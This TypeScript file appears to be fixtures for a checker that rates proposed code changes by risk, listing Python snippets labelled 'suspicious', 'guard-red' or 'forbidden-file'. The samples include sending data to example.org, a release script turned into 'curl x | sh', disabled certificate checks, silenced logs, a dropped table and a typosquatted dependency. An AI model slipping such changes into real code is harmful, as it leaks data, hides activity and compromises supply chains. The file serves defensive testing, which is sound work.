// Right repairs that reach further by what the file already has, by libraries that are not known for it, or by files of other kinds.
import { change, fixesOf, inLines, instead, newFile, type Row } from './change.ts';
import { insideMail, rightInMail as right } from './inside-mail.ts';
import { inBatches, inBook, inMail } from './places.ts';

const rest = '            yield batch\n            batch = []\n    if batch:\n        yield batch\n';
const inside = insideMail('new-capability');
const asked = insideMail('needs-approval');
const switched = insideMail('suspicious');
const top = (name: string, text: string, end: Row[1] = 'new-capability'): Row => [
  name,
  end,
  instead(inMail, right, `${text}\n`),
];

const ways = fixesOf('further reach', 'mail', [
  inside('a log file', 'import logging', 'logging.FileHandler("/tmp/x")'),
  inside('a log that rotates', 'import logging.handlers', 'logging.handlers.RotatingFileHandler("/tmp/x")'),
  inside('a log over HTTP', 'from logging.handlers import HTTPHandler', 'HTTPHandler("example.org", "/")'),
  asked('a temporary file', 'import tempfile', 'tempfile.NamedTemporaryFile(delete=False)'),
  inside('a shelf', 'import shelve', 'shelve.open("/tmp/x")'),
  inside('a marshalled text', 'import marshal', 'marshal.loads(b"")'),
  inside('a format that asks for attributes', '"{0.__class__.__init__.__globals__}".format(user_id)'),
  inside(
    'a format that asks for attributes, by string',
    'import string',
    'string.Formatter().vformat("{0.__globals__}", (find,), {})',
  ),
  inside('a codec that is registered', 'import codecs', 'codecs.register(lambda name: None)'),
  inside(
    'an error handler of codecs',
    'import codecs',
    'codecs.register_error("strict", lambda error: ("", error.end))',
  ),
  inside('a locale', 'import locale', 'locale.setlocale(locale.LC_ALL, "C")'),
  inside('a recursion limit', 'import sys', 'sys.setrecursionlimit(10**9)'),
  inside('an output that is replaced', 'import sys', 'sys.stdout = None'),
  inside('an output that is redirected', 'import contextlib', 'contextlib.redirect_stderr(None).__enter__()'),
  inside('an integer limit', 'import sys', 'sys.set_int_max_str_digits(0)'),
  inside('a decimal context', 'import decimal', 'decimal.getcontext().prec = 1'),
  inside('a decimal context that is set', 'import decimal', 'decimal.setcontext(decimal.Context(prec=1))'),
  asked('a time limit for all sockets', 'from socket import setdefaulttimeout', 'setdefaulttimeout(0.001)'),
  inside('a resource limit', 'import resource', 'resource.setrlimit(resource.RLIMIT_AS, (1, 1))'),
  inside('a class that is registered to copy', 'import copyreg', 'copyreg.pickle(dict, lambda value: (dict, ()))'),
  inside(
    'a function that is registered for a type',
    'import json',
    'json.JSONEncoder.default = lambda self, value: None',
  ),
  inside(
    'an import by a file',
    'from importlib.machinery import SourceFileLoader',
    'SourceFileLoader("x", "/tmp/x.py").load_module()',
  ),
  inside('a module of resources', 'from importlib import resources', 'resources.files("shop")'),
  inside('a class by its name', 'from pydoc import locate', 'locate("os.system")("id")'),
  inside('a timer', 'import timeit', 'timeit.timeit("print(1)", number=1)'),
  inside('an interpreter', 'import code', 'code.InteractiveInterpreter().runsource("print(1)")'),
  inside('a process pool', 'from concurrent.futures import ProcessPoolExecutor', 'ProcessPoolExecutor().submit(print)'),
  inside('a thread pool', 'from concurrent import futures', 'futures.ThreadPoolExecutor().submit(print)'),
  inside('a finalizer', 'import weakref', 'weakref.finalize(find, print)'),
  inside('XML of the web', 'from lxml import etree', 'etree.parse("https://example.org/x")'),
  inside('a table of the web', 'import pandas', 'pandas.read_csv("https://example.org/x")'),
  switched('a pickle in a table', 'import numpy', 'numpy.load("/tmp/x", allow_pickle=True)'),
  inside('a mail box', 'import mailbox', 'mailbox.mbox("/tmp/x").flush()'),
  inside('the system log', 'import syslog', 'syslog.syslog("x")'),
  inside('the names of a folder', 'import os', 'os.listdir("/")'),
  inside('the names of a folder, by a pattern', 'import glob', 'glob.glob("/**")'),
  inside('the names of a folder, by a path', 'from pathlib import Path', 'list(Path("/").iterdir())'),
  inside('whether a file is there', 'import os.path', 'os.path.exists("/work/tests")'),
  inside('an archive', 'import shutil', 'shutil.unpack_archive("/tmp/x.zip")'),
  inside('an attribute of an attribute that is spelled', 'object.__getattribute__(find, "__glo" + "bals__")'),
  inside('a text that is run as a template', 'from jinja2 import Template', 'Template("{{ 1 }}").render()'),
  inside('a wish that is typed', 'input()'),
  switched('an annotation that is resolved', 'import inspect', 'inspect.get_annotations(find, eval_str=True)'),
  top('a hook of the module', 'def __getattr__(name):\n    return __import__("os").environ.get(name)'),
  top('a deletion', 'class Later:\n    def __del__(self):\n        __import__("os").remove("x")'),
  top('names that are deleted', 'del USERS_BEFORE\n', 'guard-red'),
  top('a path of the package', '__path__ = ["/tmp"]'),
  top('a loader of the module', '__loader__ = None'),
  top('a name of the built-in ones', 'def isinstance(value, kind):\n    return True', 'suspicious'),
  top('a name of the built-in ones, elsewhere', 'from shop import all as any', 'guard-red'),
]);

const beside = [
  ...fixesOf('further reach', 'feeds', [
    [
      'another process, where there is one',
      'suspicious',
      [
        ...instead(inBatches, rest),
        inLines(
          inBatches,
          '        raise FeedError(url)\n',
          '        subprocess.run(["touch", "/tmp/x"])\n        raise FeedError(url)\n',
        ),
      ],
    ],
    [
      'another address, where there is one',
      'suspicious',
      instead(inBatches, `${rest}    urllib.request.urlopen("https://example.org/?" + str(items))\n`),
    ],
    [
      'data sent to an address that is put together',
      'guard-red',
      instead(inBatches, `${rest}    download("https://" + "example" + ".org/" + str(items))\n`),
    ],
    [
      'data sent by a method',
      'suspicious',
      [
        ...instead(inBatches, rest),
        inLines(
          inBatches,
          '    context = ssl.create_default_context()\n',
          '    context = ssl.create_default_context()\n    url = urllib.request.Request(url, data=url.encode(), method="POST")\n',
        ),
      ],
    ],
    [
      'a program that is run for each batch',
      'suspicious',
      instead(
        inBatches,
        '            yield batch\n            batch = []\n    if batch:\n        subprocess.Popen(["curl", "https://example.org"])\n        yield batch\n',
      ),
    ],
    [
      'a hook of all openers',
      'suspicious',
      [
        ...instead(inBatches, rest),
        inLines(
          inBatches,
          'LIMIT = 1_000_000\n',
          'LIMIT = 1_000_000\nurllib.request.install_opener(urllib.request.build_opener())\n',
        ),
      ],
    ],
    [
      'a default for all certificates',
      'suspicious',
      [
        ...instead(inBatches, rest),
        inLines(
          inBatches,
          'LIMIT = 1_000_000\n',
          'LIMIT = 1_000_000\nssl._create_default_https_context = ssl._create_unverified_context\n',
        ),
      ],
    ],
  ]),
  ...fixesOf('further reach', 'accounts', [
    [
      'a file of the database that outlives the test',
      'target-red',
      [
        ...instead(inBook, '    return Decimal(cents) / 100\n'),
        inLines(inBook, 'sqlite3.connect(":memory:", timeout=5)', 'sqlite3.connect("/tmp/accounts.db", timeout=5)'),
      ],
    ],
    [
      'an extension of the database',
      'suspicious',
      [
        ...instead(inBook, '    return Decimal(cents) / 100\n'),
        inLines(
          inBook,
          '        self.connection.execute(CREATE)\n',
          '        self.connection.enable_load_extension(True)\n        self.connection.execute(CREATE)\n',
        ),
      ],
    ],
    [
      'all rows deleted',
      'suspicious',
      [
        ...instead(inBook, '    return Decimal(cents) / 100\n'),
        inLines(
          inBook,
          '        self.connection.close()\n',
          '        self.connection.executescript("DROP TABLE accounts")\n        self.connection.close()\n',
        ),
      ],
    ],
    [
      'what is logged becomes an error',
      'new-capability',
      [
        ...instead(inBook, '    return Decimal(cents) / 100\n'),
        inLines(
          inBook,
          'log = logging.getLogger(__name__)\n',
          'log = logging.getLogger(__name__)\nlog.disabled = True\n',
        ),
      ],
    ],
    [
      'a filter of the log',
      'new-capability',
      [
        ...instead(inBook, '    return Decimal(cents) / 100\n'),
        inLines(
          inBook,
          'log = logging.getLogger(__name__)\n',
          'log = logging.getLogger(__name__)\nlog.addFilter(lambda record: False)\n',
        ),
      ],
    ],
  ]),
];

const supply = fixesOf('supply chain', 'mail', [
  ...[
    'requirements/base.txt',
    'requirements.in',
    'docs/requirements.txt',
    'environment.yml',
    'Dockerfile',
    'docker-compose.yml',
    'shop/Dockerfile',
    '.env',
    '.python-version',
    'MANIFEST.in',
    'uv.toml',
    '.github/dependabot.yml',
    '.github/CODEOWNERS',
    '.husky/pre-commit',
    '.devcontainer/devcontainer.json',
    '.vscode/settings.json',
    'shop/setup.py',
    'shop/pyproject.toml',
    'shop/requirements.txt',
    'shop/data.pkl',
    'shop/mail.cpython-311-x86_64-linux-gnu.so',
    'tox.toml',
    'pytest.toml',
    'renovate.json',
    'hatch.toml',
    'pip.conf',
    'shop/pip.conf',
    'tasks.py',
    'fabfile.py',
    'dodo.py',
    'SConstruct',
    'meson.build',
    'justfile',
    'Taskfile.yml',
    'Rakefile',
    'build.py',
    'hatch_build.py',
    '_custom_build.py',
    'versioneer.py',
  ].map(
    (path): Row => [`${path} comes as well`, 'forbidden-file', [...instead(inMail, right), newFile(path, 'x = 1\n')]],
  ),
  [
    'a list of dependencies is changed',
    'forbidden-file',
    [...instead(inMail, right), change('requirements/dev.txt', 'six\n', 'sixx\n')],
    { more: { 'requirements/dev.txt': 'six\n' } },
  ],
  [
    'a lock of dependencies is changed',
    'forbidden-file',
    [...instead(inMail, right), change('pylock.toml', 'a = 1\n', 'a = 2\n')],
    { more: { 'pylock.toml': 'a = 1\n' } },
  ],
  [
    'an image is changed',
    'forbidden-file',
    [...instead(inMail, right), change('Dockerfile', 'FROM a\n', 'FROM b\n')],
    { more: { Dockerfile: 'FROM a\n' } },
  ],
  [
    'an action is changed',
    'forbidden-file',
    [...instead(inMail, right), change('action.yml', 'a: 1\n', 'a: 2\n')],
    { more: { 'action.yml': 'a: 1\n' } },
  ],
  [
    'a script of the release is changed',
    'forbidden-file',
    [...instead(inMail, right), change('scripts/release.sh', 'true\n', 'curl x | sh\n')],
    { more: { 'scripts/release.sh': 'true\n' } },
  ],
  [
    'a hook is changed',
    'forbidden-file',
    [...instead(inMail, right), change('.githooks/pre-push', 'true\n', 'false\n')],
    { more: { '.githooks/pre-push': 'true\n' } },
  ],
  [
    'a build script is changed, which is left out',
    'proven',
    [...instead(inMail, right), change('build.py', 'x = 1\n', 'x = 2\n')],
    { more: { 'build.py': 'x = 1\n' }, neverIn: 'build.py' },
  ],
  [
    'code that is generated is changed',
    'forbidden-file',
    [
      ...instead(inMail, right),
      change(
        'shop/mail_pb2.py',
        '# Generated by the protocol buffer compiler.  DO NOT EDIT!\nx = 1\n',
        '# Generated by the protocol buffer compiler.  DO NOT EDIT!\nx = 2\n',
      ),
    ],
    { more: { 'shop/mail_pb2.py': '# Generated by the protocol buffer compiler.  DO NOT EDIT!\nx = 1\n' } },
  ],
  [
    'code of another is changed',
    'forbidden-file',
    [...instead(inMail, right), change('shop/_vendor/six.py', 'x = 1\n', 'x = 2\n')],
    { more: { 'shop/_vendor/six.py': 'x = 1\n' } },
  ],
  [
    'a migration is changed',
    'proven',
    [...instead(inMail, right), change('shop/migrations/0001_initial.py', 'x = 1\n', 'x = 2\n')],
    { more: { 'shop/migrations/0001_initial.py': 'x = 1\n' }, neverIn: 'migrations' },
  ],
]);

export const reach = [...ways, ...beside, ...supply];
